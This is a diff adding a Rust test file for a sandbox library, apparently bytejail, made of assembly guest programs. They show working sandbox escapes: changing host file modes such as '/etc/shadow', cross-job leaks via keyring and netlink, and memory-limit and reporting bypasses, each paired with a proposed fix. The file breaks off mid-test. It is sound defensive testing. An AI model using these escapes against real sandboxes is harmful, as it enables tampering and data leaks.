@@ -1,0 +1,1059 @@
+//! An attacker's review of the walls around profile workers (issue 10's threat model: a guest
+//! may hold every syscall its profile allows and runs before, after and beside other jobs).
+//!
+//! Two kinds of tests live here:
+//! - attacks the walls stop, kept as regression tests, each asserting the kernel's answer;
+//! - holes: attacks that work on the current code. Each is `#[ignore = "hole: ..."]` so the
+//!   suite stays green, fails when run (`cargo test --release --test review_attacks --
+//!   --ignored`), and says what the hole is and the fix proposed. Once fixed, drop the ignore.
+
+mod common;
+
+use std::time::{Duration, Instant};
+
+use bytejail::{Outcome, Policy, Pool, Report, RunOptions, Zygote};
+use common::gas;
+
+/// A profile that allows everything: the guest holds every syscall.
+fn allow_all() -> Policy {
+    Policy::from_profile_json(r#"{"defaultAction": "SCMP_ACT_ALLOW"}"#, "allow-all.json").unwrap()
+}
+
+/// The same, with the i386 and x32 entries allowed too.
+fn allow_all_arches() -> Policy {
+    Policy::from_profile_json(
+        r#"{"defaultAction": "SCMP_ACT_ALLOW",
+            "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_X32"]}"#,
+        "allow-all-arches.json",
+    )
+    .unwrap()
+}
+
+fn profile_options() -> RunOptions {
+    RunOptions {
+        policy: allow_all(),
+        ..RunOptions::default()
+    }
+}
+
+fn returned_rax(report: &Report) -> i64 {
+    match report.outcome {
+        Outcome::Returned(regs) => regs.rax as i64,
+        ref other => panic!("expected a return, got {other:?}: {}", report.summary()),
+    }
+}
+
+/// Whether this process may give workers PID namespaces (root here; CI runs as root too).
+fn namespaces() -> bool {
+    // SAFETY: geteuid cannot fail.
+    (unsafe { libc::geteuid() }) == 0
+}
+
+/// The Landlock ABI of this kernel, 0 without Landlock.
+fn landlock_abi() -> i64 {
+    // SAFETY: landlock_create_ruleset(NULL, 0, LANDLOCK_CREATE_RULESET_VERSION) reads nothing.
+    let v = unsafe { libc::syscall(libc::SYS_landlock_create_ruleset, 0usize, 0usize, 1u32) };
+    v.max(0)
+}
+
+/// A name for processes of this test run, `tag` plus a number (at most 15 bytes).
+fn marker(tag: &str) -> String {
+    format!("{tag}{}", std::process::id() % 100_000)
+}
+
+/// Processes whose name is `marker` and that are not zombies.
+fn marked(marker: &str) -> Vec<u32> {
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
+            continue;
+        };
+        if common::comm(pid) == marker && common::alive(pid) {
+            found.push(pid);
+        }
+    }
+    found
+}
+
+/// Waits (at most 5 s) for a live process named `marker`.
+fn wait_marked(marker: &str) -> Option<u32> {
+    let start = Instant::now();
+    while start.elapsed() < Duration::from_secs(5) {
+        if let Some(&pid) = marked(marker).first() {
+            return Some(pid);
+        }
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    None
+}
+
+/// Guest prologue: name the worker `marker` (prctl PR_SET_NAME), so the test can find it.
+fn name_self(marker: &str) -> String {
+    format!(
+        "    mov edi, 15
+             lea rsi, [rip + bj_name]
+             mov eax, 157
+             syscall
+             jmp bj_named
+         bj_name: .asciz \"{marker}\"
+         bj_named:"
+    )
+}
+
+// ---------------------------------------------------------------------------------------------
+// Holes.
+// ---------------------------------------------------------------------------------------------
+
+/// HOLE (high): a guest changes the metadata of host files. The worker runs as uid 0 with no
+/// capability, and Landlock (every ABI up to 7) has no right for chmod, utimes or setxattr; the
+/// mount namespace is a copy of the host's, so the guest reaches the host's inodes by path.
+/// As the owner of every root-owned file it may `chmod` any of them (`/etc/shadow` 0644,
+/// `/root/.ssh` 0777, a setuid bit on a root-owned copy of a shell), set their times, and set
+/// `user.*` extended attributes on those it may write.
+/// Fix: give profile workers a root they cannot name host files from: in the worker's own
+/// mount namespace, `pivot_root` (or `chroot` + `chdir`) into an empty read-only tmpfs before
+/// Landlock (unmounting the old root: MNT_DETACH), or run the worker as an unprivileged uid
+/// (a fresh user namespace mapping it to nobody, or setuid to a dedicated uid) so that it owns
+/// no host file. A stacked filter refusing chmod/fchmodat/fchmodat2/utimensat/setxattr family
+/// with EPERM is a cheap extra line, not a wall.
+#[test]
+#[ignore = "hole: Landlock has no chmod/utimes/setxattr right; a uid-0 guest changes host files' modes, times and xattrs"]
+fn a_profile_guest_changes_no_host_files_metadata() {
+    let dir = std::env::temp_dir().join(format!("bjrev-meta-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let victim = dir.join("victim");
+    std::fs::write(&victim, b"secret").unwrap();
+    use std::os::unix::fs::{MetadataExt, PermissionsExt};
+    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
+    let path = victim.to_str().unwrap();
+    let before = std::fs::metadata(&victim).unwrap();
+
+    // chmod(path, 0o4777)
+    let chmod = gas(&format!(
+        "lea rdi, [rip + path]
+         mov esi, 0x9ff
+         mov eax, 90
+         syscall
+         ret
+         path: .asciz \"{path}\""
+    ));
+    // utimensat(AT_FDCWD, path, {{0, 0}, {0, 0}}, 0): explicit times need ownership only.
+    let utimes = gas(&format!(
+        "sub rsp, 40
+         xor eax, eax
+         mov [rsp], rax
+         mov [rsp + 8], rax
+         mov [rsp + 16], rax
+         mov [rsp + 24], rax
+         mov rdi, -100
+         lea rsi, [rip + path]
+         mov rdx, rsp
+         xor r10d, r10d
+         mov eax, 280
+         syscall
+         add rsp, 40
+         ret
+         path: .asciz \"{path}\""
+    ));
+    // setxattr(path, "user.bytejail", "x", 1, 0)
+    let setxattr = gas(&format!(
+        "lea rdi, [rip + path]
+         lea rsi, [rip + name]
+         lea rdx, [rip + value]
+         mov r10d, 1
+         xor r8d, r8d
+         mov eax, 188
+         syscall
+         ret
+         path: .asciz \"{path}\"
+         name: .asciz \"user.bytejail\"
+         value: .ascii \"x\""
+    ));
+    let mut changed = Vec::new();
+    let rax = returned_rax(&bytejail::run(&chmod, b"", &profile_options()).unwrap());
+    let mode = std::fs::metadata(&victim).unwrap().permissions().mode() & 0o7777;
+    if rax == 0 || mode != 0o600 {
+        changed.push(format!("chmod returned {rax}, mode now {mode:o}"));
+    }
+    let rax = returned_rax(&bytejail::run(&utimes, b"", &profile_options()).unwrap());
+    let mtime = std::fs::metadata(&victim).unwrap().mtime();
+    if rax == 0 || mtime != before.mtime() {
+        changed.push(format!("utimensat returned {rax}, mtime now {mtime}"));
+    }
+    let rax = returned_rax(&bytejail::run(&setxattr, b"", &profile_options()).unwrap());
+    let cpath = std::ffi::CString::new(path).unwrap();
+    // SAFETY: a NUL-terminated path and name, no buffer (size query).
+    let xattr = unsafe {
+        libc::getxattr(
+            cpath.as_ptr(),
+            c"user.bytejail".as_ptr(),
+            std::ptr::null_mut(),
+            0,
+        )
+    };
+    if rax == 0 || xattr >= 0 {
+        changed.push(format!("setxattr returned {rax}, xattr present: {}", xattr >= 0));
+    }
+    let _ = std::fs::remove_dir_all(&dir);
+    assert!(
+        changed.is_empty(),
+        "a guest changed a host file: {changed:?}"
+    );
+}
+
+/// HOLE (high): the root user's keyring carries data from one job to any later (or
+/// concurrent) job, of this process or any other bytejail on the machine, and outlives every
+/// job: keys live in the kernel's per-user (uid 0, initial user namespace) keyring, which no
+/// namespace the worker gets (PID, IPC, mount, net) separates and Landlock does not cover.
+/// Docker's default profile refuses add_key/keyctl/request_key for this reason, but a profile
+/// that allows them (or the threat model's "every syscall") hands it over; it also lets a guest
+/// fill root's key quota (`kernel.keys.root_maxbytes`, 25 MB here) for the whole machine.
+/// Fix: refuse add_key, keyctl and request_key with EPERM in the stacked filter every profile
+/// worker installs (as `NO_NEW_TASKS` does for clone), whatever the profile says; or run
+/// profile workers in a user namespace of their own (key_user is per user namespace).
+#[test]
+#[ignore = "hole: add_key in one job, keyctl read in the next: root's user keyring is shared"]
+fn one_job_leaves_nothing_in_the_root_keyring_for_the_next() {
+    let desc = marker("bjrevkey");
+    let secret = "keyring-secret-of-job-one";
+    let add = gas(&format!(
+        "lea rdi, [rip + ktype]
+         lea rsi, [rip + desc]
+         lea rdx, [rip + payload]
+         mov r10d, {len}
+         mov r8, -4
+         mov eax, 248
+         syscall
+         ret
+         ktype: .asciz \"user\"
+         desc: .asciz \"{desc}\"
+         payload: .ascii \"{secret}\"",
+        len = secret.len()
+    ));
+    let read = gas(&format!(
+        "    mov edi, 10
+             mov rsi, -4
+             lea rdx, [rip + ktype]
+             lea r10, [rip + desc]
+             xor r8d, r8d
+             mov eax, 250
+             syscall
+             test rax, rax
+             js 1f
+             sub rsp, 256
+             mov rsi, rax
+             mov edi, 11
+             mov rdx, rsp
+             mov r10d, 256
+             mov eax, 250
+             syscall
+             test rax, rax
+             js 2f
+             mov rdx, rax
+             mov edi, 1
+             mov rsi, rsp
+             mov eax, 1
+             syscall
+         2:  add rsp, 256
+         1:  ret
+         ktype: .asciz \"user\"
+         desc: .asciz \"{desc}\""
+    ));
+    let first = bytejail::run(&add, b"", &profile_options()).unwrap();
+    let added = returned_rax(&first);
+    let second = bytejail::run(&read, b"", &profile_options()).unwrap();
+    // Clean up whatever the first job left before judging.
+    let cdesc = std::ffi::CString::new(desc.clone()).unwrap();
+    // SAFETY: keyctl(KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", desc, 0), then
+    // keyctl(KEYCTL_INVALIDATE, id): integers and NUL-terminated strings.
+    unsafe {
+        let id = libc::syscall(
+            libc::SYS_keyctl,
+            10,
+            -4i64,
+            c"user".as_ptr(),
+            cdesc.as_ptr(),
+            0,
+        );
+        if id > 0 {
+            libc::syscall(libc::SYS_keyctl, 21, id);
+        }
+    }
+    assert!(
+        !String::from_utf8_lossy(&second.output).contains(secret),
+        "the second job read the first job's key (add_key gave {added}): {:?}",
+        String::from_utf8_lossy(&second.output)
+    );
+}
+
+/// HOLE (high): two concurrent jobs talk over a NETLINK_USERSOCK socket. Every profile worker
+/// of a process joins the one shared empty network namespace; netlink needs no interface, and
+/// NETLINK_USERSOCK lets an unprivileged socket bind any port id and unicast to any other
+/// (NL_CFG_F_NONROOT_SEND/RECV). Landlock scopes only abstract unix sockets and signals, and
+/// handles only TCP. So one job's input reaches a job running beside it, also across
+/// submissions and users of a shared grader.
+/// Fix: a network namespace per job (about 0.5 ms; the host can keep a few made ahead on a
+/// background thread, each used once), or at least a stacked filter refusing
+/// socket(AF_NETLINK, ...) (and, to be safe, every family but AF_UNIX) with EAFNOSUPPORT.
+#[test]
+#[ignore = "hole: concurrent jobs share the empty netns; NETLINK_USERSOCK unicast links them"]
+fn concurrent_jobs_share_no_netlink_channel() {
+    let port = 0x4000_0000u32 | (std::process::id() & 0xff_ffff);
+    let addr = format!(
+        "addr: .short 16
+               .short 0
+               .long {port}
+               .long 0"
+    );
+    let receiver = gas(&format!(
+        "    mov edi, 16
+             mov esi, 3
+             mov edx, 2
+             mov eax, 41
+             syscall
+             test rax, rax
+             js 9f
+             mov r12, rax
+             mov rdi, r12
+             lea rsi, [rip + addr]
+             mov edx, 12
+             mov eax, 49
+             syscall
+             test rax, rax
+             js 9f
+             sub rsp, 256
+             mov rdi, r12
+             mov rsi, rsp
+             mov edx, 256
+             xor r10d, r10d
+             xor r8d, r8d
+             xor r9d, r9d
+             mov eax, 45
+             syscall
+             test rax, rax
+             js 8f
+             mov rdx, rax
+             mov edi, 1
+             mov rsi, rsp
+             mov eax, 1
+             syscall
+         8:  add rsp, 256
+         9:  ret
+         {addr}"
+    ));
+    let secret = "netlink-secret";
+    let sender = gas(&format!(
+        "    mov edi, 16
+             mov esi, 3
+             mov edx, 2
+             mov eax, 41
+             syscall
+             test rax, rax
+             js 9f
+             mov rdi, rax
+             lea rsi, [rip + msg]
+             mov edx, {len}
+             xor r10d, r10d
+             lea r8, [rip + addr]
+             mov r9d, 12
+             mov eax, 44
+             syscall
+         9:  ret
+         msg: .ascii \"{secret}\"
+         {addr}",
+        len = secret.len()
+    ));
+    let mut options = profile_options();
+    options.limits.timeout = Duration::from_secs(3);
+    let job = std::thread::spawn(move || bytejail::run(&receiver, b"", &options).unwrap());
+    std::thread::sleep(Duration::from_millis(500));
+    let sent = bytejail::run(&sender, b"", &profile_options()).unwrap();
+    let received = job.join().unwrap();
+    assert!(
+        !String::from_utf8_lossy(&received.output).contains(secret),
+        "a concurrent job received the other's message (sendto gave {}): {}",
+        returned_rax(&sent),
+        received.summary()
+    );
+}
+
+/// HOLE (medium): with `--max-procs 1` (the default) a guest still creates kernel-made threads
+/// of its own: each io_uring set up with IORING_SETUP_SQPOLL starts an `iou-sqp-N` thread (and
+/// io-wq workers start `iou-wrk-N` threads), without clone. The stacked filter refuses only
+/// clone/fork/vfork/clone3, there is no pids cgroup at `max_procs` 1, and RLIMIT_NPROC never
+/// limits uid 0: one thread per ring, up to `--max-open-files` rings, each may busy-poll a CPU
+/// (SQPOLL's idle time is the guest's to choose) and io-wq can add workers up to the machine's
+/// task limit.
+/// Fix: put every profile worker in a pids cgroup (max = `max_procs`; kernel threads of
+/// io_uring are created through copy_process and are counted), not only when `max_procs` > 1;
+/// and/or refuse io_uring_setup/io_uring_enter/io_uring_register with ENOSYS in the stacked
+/// filter when `max_procs` is 1.
+#[test]
+#[ignore = "hole: io_uring SQPOLL rings make threads beyond --max-procs 1 (no clone needed)"]
+fn io_uring_makes_no_thread_beyond_max_procs_1() {
+    let name = marker("bjrevuring");
+    let code = gas(&format!(
+        "{}
+             xor r12d, r12d
+             mov r13d, 8
+             sub rsp, 128
+         1:  mov rdi, rsp
+             xor eax, eax
+             mov ecx, 128
+             rep stosb
+             mov dword ptr [rsp + 8], 2
+             mov edi, 8
+             mov rsi, rsp
+             mov eax, 425
+             syscall
+             test rax, rax
+             js 2f
+             inc r12d
+         2:  dec r13d
+             jnz 1b
+         3:  jmp 3b",
+        name_self(&name)
+    ));
+    let mut options = profile_options();
+    options.limits.timeout = Duration::from_millis(2000);
+    let job = std::thread::spawn(move || bytejail::run(&code, b"", &options).unwrap());
+    let pid = wait_marked(&name).expect("the guest never named itself");
+    let mut most = Vec::new();
+    let start = Instant::now();
+    while start.elapsed() < Duration::from_millis(1200) {
+        let tasks: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/task"))
+            .map(|d| {
+                d.flatten()
+                    .map(|e| {
+                        let tid = e.file_name().to_string_lossy().to_string();
+                        let comm = std::fs::read_to_string(e.path().join("comm"))
+                            .unwrap_or_default();
+                        format!("{tid}:{}", comm.trim_end())
+                    })
+                    .collect()
+            })
+            .unwrap_or_default();
+        if tasks.len() > most.len() {
+            most = tasks;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let report = job.join().unwrap();
+    assert_eq!(report.outcome, Outcome::Timeout, "{}", report.summary());
+    assert!(
+        most.len() <= 1,
+        "the job ran {} tasks under --max-procs 1: {most:?}",
+        most.len()
+    );
+}
+
+/// HOLE (high): memory a guest keeps outside its mappings is not counted by `--memory`
+/// (RLIMIT_AS counts only mapped address space). A SysV segment that is filled and detached
+/// keeps its pages until the job's IPC namespace dies; a memfd that is filled, unmapped and
+/// kept open keeps its pages until the fd closes. Under a 64 MiB limit a guest holds 256 MiB
+/// of SysV segments (8 x 32 MiB, shmmax/shmall of a new IPC namespace are unbounded) and
+/// 128 MiB of memfds (8 x 16 MiB under the default 16 MiB `--max-file-size`; up to
+/// `--max-open-files` of them): with a longer loop, all of the machine's memory (no swap here:
+/// the OOM killer then picks a victim, likely not the guest). Pipe buffers and io_uring rings
+/// add more the same way.
+/// Fix: a memory cgroup per profile job (`memory.max` = `--memory` plus the runner's mappings;
+/// v1 `memory.limit_in_bytes` here, with kmem accounting), which counts shmem, tmpfs, pipe and
+/// socket buffers and kernel stacks of the whole tree; until then document that `--memory`
+/// bounds mappings only. (`kernel.shm_rmid_forced` would not help: the segment is attached
+/// while it is filled.)
+#[test]
+#[ignore = "hole: SysV shm and memfd pages held after munmap/shmdt escape --memory (RLIMIT_AS)"]
+fn memory_held_outside_mappings_counts_against_the_limit() {
+    const LIMIT: usize = 64 << 20;
+    // shmget(IPC_PRIVATE, 32 MiB, IPC_CREAT|0600), shmat, fill, shmdt: 8 times; rax = count.
+    let shm = gas("    xor r12d, r12d
+                       mov r13d, 8
+                   1:  xor edi, edi
+                       mov esi, 0x2000000
+                       mov edx, 0x380
+                       mov eax, 29
+                       syscall
+                       test rax, rax
+                       js 9f
+                       mov rdi, rax
+                       xor esi, esi
+                       xor edx, edx
+                       mov eax, 30
+                       syscall
+                       cmp rax, -4096
+                       ja 9f
+                       mov rbx, rax
+                       mov rdi, rax
+                       mov ecx, 0x2000000
+                       mov al, 1
+                       rep stosb
+                       mov rdi, rbx
+                       mov eax, 67
+                       syscall
+                       inc r12d
+                       dec r13d
+                       jnz 1b
+                   9:  mov eax, r12d
+                       ret");
+    // memfd_create, ftruncate 16 MiB, mmap shared, fill, munmap, keep the fd: 8 times.
+    let memfd = gas("    xor r12d, r12d
+                         mov r13d, 8
+                     1:  lea rdi, [rip + name]
+                         xor esi, esi
+                         mov eax, 319
+                         syscall
+                         test rax, rax
+                         js 9f
+                         mov r14, rax
+                         mov rdi, rax
+                         mov esi, 0x1000000
+                         mov eax, 77
+                         syscall
+                         test rax, rax
+                         jnz 9f
+                         xor edi, edi
+                         mov esi, 0x1000000
+                         mov edx, 3
+                         mov r10d, 1
+                         mov r8, r14
+                         xor r9d, r9d
+                         mov eax, 9
+                         syscall
+                         cmp rax, -4096
+                         ja 9f
+                         mov rbx, rax
+                         mov rdi, rax
+                         mov ecx, 0x1000000
+                         mov al, 1
+                         rep stosb
+                         mov rdi, rbx
+                         mov esi, 0x1000000
+                         mov eax, 11
+                         syscall
+                         inc r12d
+                         dec r13d
+                         jnz 1b
+                     9:  mov eax, r12d
+                         ret
+                     name: .asciz \"bj\"");
+    let mut options = profile_options();
+    options.limits.memory = LIMIT;
+    options.limits.timeout = Duration::from_secs(10);
+    let shm_held = returned_rax(&bytejail::run(&shm, b"", &options).unwrap()) as usize * (32 << 20);
+    let memfd_held =
+        returned_rax(&bytejail::run(&memfd, b"", &options).unwrap()) as usize * (16 << 20);
+    assert!(
+        shm_held <= LIMIT && memfd_held <= LIMIT,
+        "under a {} MiB limit a guest held {} MiB of SysV shm and {} MiB of memfds",
+        LIMIT >> 20,
+        shm_held >> 20,
+        memfd_held >> 20
+    );
+}
+
+/// HOLE (medium; the README admits it, issue 10 asks for it): `--cpu-time` is for the whole
+/// process tree, but the host's watch reads the worker's own CPU clock and RLIMIT_CPU is per
+/// process. With `--max-procs` above 1, a worker that forks spinners and sleeps uses no CPU of
+/// its own: the job runs to the wall-clock timeout on every core and is reported `timeout`
+/// (its children's time is even in the report's user time, after the namespace's teardown),
+/// not `cpu_time_limit`.
+/// Fix: read the job's CPU from its cgroup (v2 `cpu.stat` usage_usec, v1 `cpuacct.usage`) in
+/// `CpuWatch` (the job already has a pids cgroup when `max_procs` > 1; put it in the cpuacct
+/// hierarchy too), and classify a kill at that budget as `cpu_time_limit`.
+#[test]
+#[ignore = "hole: CPU time of the guest's children is not watched; --cpu-time ends in a timeout"]
+fn cpu_time_of_the_whole_tree_is_limited() {
+    if !namespaces() {
+        eprintln!("not root: no PID namespace for workers; skipping");
+        return;
+    }
+    let code = gas("    mov r12d, 2
+                    1:  mov eax, 57
+                        syscall
+                        test rax, rax
+                        jz 3f
+                        dec r12d
+                        jnz 1b
+                    2:  mov eax, 34
+                        syscall
+                        jmp 2b
+                    3:  jmp 3b");
+    let mut options = profile_options();
+    options.limits.max_procs = 4;
+    options.limits.cpu_time = Some(Duration::from_millis(200));
+    options.limits.timeout = Duration::from_secs(3);
+    let report = bytejail::run(&code, b"", &options).unwrap();
+    assert_eq!(
+        report.outcome,
+        Outcome::CpuTimeLimit,
+        "{} (user {:?}, sys {:?})",
+        report.summary(),
+        report.user,
+        report.sys
+    );
+}
+
+/// HOLE (high for library users): `Pool::run` hands a job to a worker parked with the pool's
+/// template limits when policy, scrub, stack, scratch and timeout fit (`Pool::fits`), ignoring
+/// the job's own `memory`, `max_procs`, `max_file_size` and `max_open_files`: a job that asks
+/// for 256 MiB runs with the template's 1 GiB, one that asks for no process runs with the
+/// template's `max_procs` (and its pids cgroup). `batch` and `SameCode` decide walls per job.
+/// Fix: `fits` must also require equal `memory`, `max_procs`, `max_file_size`,
+/// `max_open_files` (and `cpu_time`, whose RLIMIT_CPU backstop is the template's), falling
+/// back to a fresh worker otherwise; better, compare one `Walls`/limits value built by the
+/// same function that `spawn` uses, so a new limit cannot be forgotten again.
+#[test]
+#[ignore = "hole: Pool::fits ignores the job's memory/max_procs/file limits; the template's apply"]
+fn a_pooled_job_gets_its_own_limits_not_the_templates() {
+    let map = gas("xor edi, edi
+                   mov esi, 0x20000000
+                   mov edx, 3
+                   mov r10d, 0x22
+                   mov r8, -1
+                   xor r9d, r9d
+                   mov eax, 9
+                   syscall
+                   ret");
+    let template = profile_options(); // memory 1 GiB
+    let pool = Pool::new(template.clone(), 1).unwrap();
+    let mut options = template.clone();
+    options.limits.memory = 256 << 20;
+    // The reference: a fresh worker with the job's options refuses the 512 MiB mapping.
+    let fresh = bytejail::run(&map, b"", &options).unwrap();
+    assert_eq!(returned_rax(&fresh), -(libc::ENOMEM as i64));
+    let pooled = pool.run(&map, b"", &options).unwrap();
+    assert_eq!(
+        returned_rax(&pooled),
+        -(libc::ENOMEM as i64),
+        "a pooled job asking for 256 MiB mapped 512 MiB"
+    );
+}
+
+/// HOLE (low-medium): a pooled guest says "done" itself and keeps running past its report.
+/// The done message is public (`CTX_SEQ` in the data page, `DONE_FD` 4 is open to the guest)
+/// and the host's confirmation reads the record page, which the guest writes: so the pool
+/// reports `returned` at once while the guest (and, with `max_procs` > 1, its children) runs on
+/// until the refill thread gets to kill it: its CPU after "done" is nobody's, and the report's
+/// promise that nothing of the job runs any more is false. Works under strict mode as well
+/// (write is allowed), and through `batch` with reuse.
+/// Fix: confirm "done" from something the guest cannot forge: e.g. after the done message,
+/// the host checks that the worker is blocked in the blob's `read(GO_FD)` (its
+/// `/proc/<pid>/syscall` shows syscall 0 on fd 3 with an instruction pointer inside the blob
+/// page, and `/proc/<pid>/stat` state S; the task count is 1), or simply kills and reaps the
+/// worker before returning the report (about 60 us) when the policy is a profile.
+#[test]
+#[ignore = "hole: a pooled guest forges its done message and runs on after its report"]
+fn a_pooled_job_is_not_reported_while_its_guest_runs() {
+    let name = marker("bjrevdone");
+    // The blob page is where the return address points; the data page follows it:
+    // REC_STATE at +0x100 (1: returned), CTX_SEQ at +0xe0; DONE_FD is 4.
+    let code = gas(&format!(
+        "{}
+             mov rbx, [rsp]
+             and rbx, -4096
+             mov qword ptr [rbx + 0x1100], 1
+             mov edi, 4
+             lea rsi, [rbx + 0x10e0]
+             mov edx, 8
+             mov eax, 1
+             syscall
+         1:  jmp 1b",
+        name_self(&name)
+    ));
+    let mut options = profile_options();
+    options.limits.timeout = Duration::from_secs(3);
+    let pool = Pool::new(options.clone(), 1).unwrap();
+    let mut seen = Vec::new();
+    for _ in 0..10 {
+        let report = pool.run(&code, b"", &options).unwrap();
+        let running = marked(&name);
+        assert!(
+            matches!(report.outcome, Outcome::Returned(_)),
+            "{}",
+            report.summary()
+        );
+        if !running.is_empty() {
+            seen.push((report.wall, running));
+        }
+    }
+    drop(pool);
+    assert!(
+        seen.is_empty(),
+        "reported `returned` while the guest still ran (wall, pids): {seen:?}"
+    );
+}
+
+/// HOLE (low): a guest makes the host report `killed` ("a SIGKILL from outside bytejail") for a
+/// death it caused itself: it lowers its own RLIMIT_CPU (lowering needs no privilege) and
+/// spins; the kernel's SIGKILL at the hard limit reaches even a PID-namespace init. The report
+/// then blames an outsider (an operator, the OOM killer) for what is a CPU limit.
+/// Fix: refuse setrlimit/prlimit64 on the worker's own RLIMIT_CPU (and RLIMIT_AS, whose
+/// lowering is harmless but makes `--memory` reports lie the other way) in the stacked filter
+/// (compare args), or classify any SIGKILL the host did not send with CPU time at or past one
+/// second as "killed (unverified)" rather than blaming the outside.
+#[test]
+#[ignore = "hole: a guest that lowers its own RLIMIT_CPU is reported as killed from outside"]
+fn a_guest_cannot_make_its_own_death_look_like_an_outside_kill() {
+    // prlimit64(0, RLIMIT_CPU, {1, 1}, NULL), then spin.
+    let code = gas("    push 1
+                        push 1
+                        xor edi, edi
+                        xor esi, esi
+                        mov rdx, rsp
+                        xor r10d, r10d
+                        mov eax, 302
+                        syscall
+                    1:  jmp 1b");
+    let mut options = profile_options();
+    options.limits.timeout = Duration::from_secs(8);
+    let report = bytejail::run(&code, b"", &options).unwrap();
+    assert_ne!(
+        report.outcome,
+        Outcome::Killed,
+        "a self-inflicted RLIMIT_CPU kill is blamed on the outside: {}",
+        report.summary()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Attacks that are stopped (regression tests).
+// ---------------------------------------------------------------------------------------------
+
+/// The host (and a zygote) is out of a profile guest's reach: in its PID namespace the host's
+/// pid names nothing (kill, pidfd_open, process_vm_readv and ptrace give ESRCH), and kill(-1)
+/// finds no process to signal. The twin: the same calls on pid 1 (the worker itself) work.
+#[test]
+fn a_profile_guest_reaches_no_host_process() {
+    if !namespaces() {
+        eprintln!("not root: no PID namespace for workers; skipping");
+        return;
+    }
+    let zygote = Zygote::start().unwrap();
+    let targets = [std::process::id(), zygote.pid()];
+    let calls = |pid: u32| {
+        [
+            // kill(pid, 0)
+            ("kill", format!("mov edi, {pid}\nxor esi, esi\nmov eax, 62\nsyscall\nret")),
+            // pidfd_open(pid, 0)
+            ("pidfd_open", format!("mov edi, {pid}\nxor esi, esi\nmov eax, 434\nsyscall\nret")),
+            // process_vm_readv(pid, iov, 1, iov, 1, 0) with an iovec of 8 bytes of the stack.
+            (
+                "process_vm_readv",
+                format!(
+                    "push 8
+                     push rsp
+                     mov edi, {pid}
+                     mov rsi, rsp
+                     mov edx, 1
+                     mov r10, rsp
+                     mov r8d, 1
+                     xor r9d, r9d
+                     mov eax, 310
+                     syscall
+                     add rsp, 16
+                     ret"
+                ),
+            ),
+            // ptrace(PTRACE_ATTACH, pid, 0, 0)
+            (
+                "ptrace",
+                format!("mov edi, 16\nmov esi, {pid}\nxor edx, edx\nxor r10d, r10d\nmov eax, 101\nsyscall\nret"),
+            ),
+        ]
+    };
+    for pid in targets {
+        for (what, source) in calls(pid) {
+            let code = gas(&source);
+            let report = bytejail::run(&code, b"", &profile_options()).unwrap();
+            assert_eq!(
+                returned_rax(&report),
+                -(libc::ESRCH as i64),
+                "{what} on pid {pid}"
+            );
+            let report = zygote.run(&code, b"", &profile_options()).unwrap();
+            assert_eq!(
+                returned_rax(&report),
+                -(libc::ESRCH as i64),
+                "{what} on pid {pid} from a zygote's worker"
+            );
+        }
+    }
+    // kill(-1, SIGKILL): init signals everything in its namespace but itself: nothing.
+    let all = gas("mov edi, -1\nmov esi, 9\nmov eax, 62\nsyscall\nret");
+    let report = bytejail::run(&all, b"", &profile_options()).unwrap();
+    assert_eq!(returned_rax(&report), -(libc::ESRCH as i64));
+    // The twin: pid 1 is the worker itself, and these calls work on it.
+    let own = gas("mov edi, 1\nxor esi, esi\nmov eax, 62\nsyscall\nret");
+    assert_eq!(
+        returned_rax(&bytejail::run(&own, b"", &profile_options()).unwrap()),
+        0
+    );
+    let own = gas("mov edi, 1\nxor esi, esi\nmov eax, 434\nsyscall\nret");
+    assert!(returned_rax(&bytejail::run(&own, b"", &profile_options()).unwrap()) >= 0);
+}
+
+/// A spinning profile guest holds exactly fds 0 and 1: the host's pidfd (`host_pidfd`), the
+/// empty network namespace's fd and the arena's memfd are closed before it runs.
+#[test]
+fn a_profile_worker_holds_only_its_pipes() {
+    let name = marker("bjrevfds");
+    let code = gas(&format!("{}\n1: jmp 1b", name_self(&name)));
+    let mut options = profile_options();
+    options.limits.timeout = Duration::from_millis(1500);
+    let job = std::thread::spawn(move || bytejail::run(&code, b"", &options).unwrap());
+    let pid = wait_marked(&name).expect("the guest never named itself");
+    let mut fds: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().to_string())
+        .collect();
+    fds.sort();
+    // The twin: the same listing of this test process shows more than two descriptors.
+    let own = std::fs::read_dir("/proc/self/fd").unwrap().count();
+    let report = job.join().unwrap();
+    assert_eq!(report.outcome, Outcome::Timeout, "{}", report.summary());
+    assert_eq!(fds, ["0", "1"]);
+    assert!(own > 2);
+}
+
+/// Two concurrent jobs in the shared network namespace cannot meet on an abstract unix
+/// socket: Landlock (ABI 6+) scopes them to their own domains (EPERM on connect). The twin:
+/// the listener's bind works, and a guest connects to its own abstract socket.
+#[test]
+fn concurrent_jobs_share_no_abstract_socket() {
+    if landlock_abi() < 6 {
+        eprintln!("Landlock ABI below 6: abstract sockets are not scoped; skipping");
+        return;
+    }
+    let name = marker("bjrevabs");
+    // sockaddr_un { AF_UNIX, "\0name" }, length 2 + 1 + len.
+    let addr = format!(
+        "addr: .short 1
+               .byte 0
+               .ascii \"{name}\""
+    );
+    let addr_len = 3 + name.len();
+    let listener = gas(&format!(
+        "    mov edi, 1
+             mov esi, 1
+             xor edx, edx
+             mov eax, 41
+             syscall
+             mov r12, rax
+             mov rdi, r12
+             lea rsi, [rip + addr]
+             mov edx, {addr_len}
+             mov eax, 49
+             syscall
+             test rax, rax
+             jnz 9f
+             mov rdi, r12
+             mov esi, 1
+             mov eax, 50
+             syscall
+             mov rdi, r12
+             xor esi, esi
+             xor edx, edx
+             mov eax, 43
+             syscall
+         9:  ret
+         {addr}"
+    ));
+    let connector = gas(&format!(
+        "    mov edi, 1
+             mov esi, 1
+             xor edx, edx
+             mov eax, 41
+             syscall
+             mov rdi, rax
+             lea rsi, [rip + addr]
+             mov edx, {addr_len}
+             mov eax, 42
+             syscall
+             ret
